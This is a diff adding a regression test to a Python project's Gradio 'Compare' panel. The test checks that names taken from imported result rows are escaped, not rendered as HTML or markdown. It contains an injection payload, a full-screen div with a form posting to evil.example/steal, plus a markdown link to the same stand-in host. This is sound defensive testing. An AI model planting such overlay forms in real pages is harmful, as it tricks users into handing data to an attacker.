@@ -269,6 +269,29 @@ def test_the_compare_panel_says_what_to_do_when_nothing_is_stored_and_counts_its
     assert list(table["scored"]) == ["all 40 test texts", "20 of 40 test texts"]
 
 
+def test_names_from_stored_rows_are_literal_text_in_the_compare_panel(monkeypatch, tmp_path):
+    """An imported results file named its task '<div style="position:fixed..."><form action=...>': gradio's
+    Markdown sanitiser keeps forms, styles and outside links, and the form covered the whole Compare tab (a security
+    review's finding). Every name from the rows is literal text."""
+    from peftlab.ui.compare_tab import show_comparison
+
+    monkeypatch.setenv("PEFTLAB_RESULTS", str(tmp_path / "results.sqlite"))
+    overlay = '<div style="position:fixed;inset:0"><form action="https://evil.example/steal">'
+    task = Task(f"my-task{overlay}", ["<=50K", "[paid](https://evil.example)"], ["text"], train=[], test=TEXTS)
+    rows = [
+        ResultRow.scored(kind, "*tiny*", task, method, {}, TEXTS, GOLD, metrics={"model_params": 1000})
+        for kind, method in (("cloze", "zero-shot · mean"), ("trained", "lora_<b>x</b>"))
+    ]
+    ResultStore().add(rows)
+    status = show_comparison(task.name, "*tiny*", None)[0]
+    assert status.startswith(
+        '**my-task&lt;div style="position:fixed;inset:0"&gt;&lt;form action="https://evil.example/steal"&gt; · '
+        "\\*tiny\\***: 2 results."
+    ), status
+    assert "&lt;=50K" in status and "\\[paid\\]\\(https://evil.example\\)" in status
+    assert "<" not in status and "](" not in status
+
+
 def test_an_import_or_a_delete_draws_the_comparison_on_show_again(monkeypatch, tmp_path):
     """After "1 result deleted." the comparison above still said "2 results", and its downloads held the deleted one."""
     from peftlab.ui.compare_tab import delete_results, shown_again
